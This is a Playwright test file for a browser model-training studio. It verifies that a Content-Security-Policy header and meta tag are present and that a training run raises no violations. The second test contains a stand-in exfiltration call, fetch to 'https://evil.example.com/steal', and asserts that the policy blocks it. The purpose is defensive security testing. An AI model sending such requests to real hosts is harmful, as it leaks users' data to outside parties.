// The locked-down page: the Content-Security-Policy arrives as a header and a <meta>; a full training run
// (dataset, hub model, WASM training, adapter download) raises no CSP violation; a request to another host is
// blocked by the policy; a hub outside connect-src gets a message; refusals print no stack traces.
import { readFileSync } from 'node:fs';
import { expect, HUB_URL, test } from '../fixtures/studio';
import { dataFile } from '../fixtures/paths';

const CSV = readFileSync(dataFile('sentiment-200.csv'));

test.beforeEach(async ({ page }) => {
  // Before any page script: collect securitypolicyviolation events (the init script itself runs outside CSP).
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
});

test('a full run raises no CSP violation; the policy is sent as a header and a meta', async ({ studio, page }) => {
  test.setTimeout(240_000);
  const consoleCsp: string[] = [];
  const stacks: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) consoleCsp.push(m.text());
    if (/\n\s+at .+:\d+:\d+/.test(m.text())) stacks.push(m.text());
  });
  const response = await page.goto(`/?backend=wasm&hub=${encodeURIComponent(HUB_URL)}`);
  const header = response!.headers()['content-security-policy'];
  expect(header).toContain("default-src 'self'");
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(header).not.toContain('unsafe-inline');
  expect(header).toMatch(/connect-src 'self' https:\/\/huggingface\.co/);
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toContain("default-src 'self'");

  await studio.dropFile('broken.png.csv', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82]));
  await expect(studio.datasetError).toContainText('PNG image');
  await studio.dropFile('sentiment-200.csv', CSV);
  await expect(studio.datasetStats).toContainText('200 rows, 2 labels');
  await studio.useHubModel('studio-test/micro-bert');
  await expect(studio.modelSummary).toContainText('1 layers, hidden 32');
  await studio.setNumber('Epochs', 1);
  await studio.setNumber('Batch size', 16);
  await studio.setNumber('Max tokens', 32);
  await studio.startButton.click();
  await expect(studio.outcome).toContainText(/Run (finished|early-stopped) after \d+ steps on wasm/, { timeout: 200_000 });
  await studio.goto('results');
  const [download] = await Promise.all([page.waitForEvent('download'), studio.downloadButton.click()]);
  expect(download.suggestedFilename()).toMatch(/\.zip$/);

  expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
  expect(consoleCsp).toEqual([]);
  expect(stacks).toEqual([]); // the refused PNG left no stack trace in the console
});

test('a request to another host is blocked by the policy, and a hub outside it gets a message', async ({ studio, page }) => {
  await studio.open(`?backend=wasm&hub=${encodeURIComponent('https://evil.example.com')}`);
  const outcome = await page.evaluate(() =>
    fetch('https://evil.example.com/steal?x=1').then(
      () => 'sent',
      () => 'failed',
    ),
  );
  expect(outcome).toBe('failed');
  // Reported once per policy (the header and the meta both enforce it).
  await expect.poll(() => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp.length)).toBeGreaterThan(0);
  for (const v of await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)) {
    expect(v).toMatch(/^connect-src https:\/\/evil\.example\.com\/steal/);
  }
  await studio.goto('model');
  await page.getByLabel('Hugging Face model').check();
  await expect(page.getByTestId('hub-blocked')).toContainText('security policy');
  // The page itself keeps working.
  await studio.dropFile('sentiment-200.csv', CSV);
  await expect(studio.datasetStats).toContainText('200 rows, 2 labels');
});
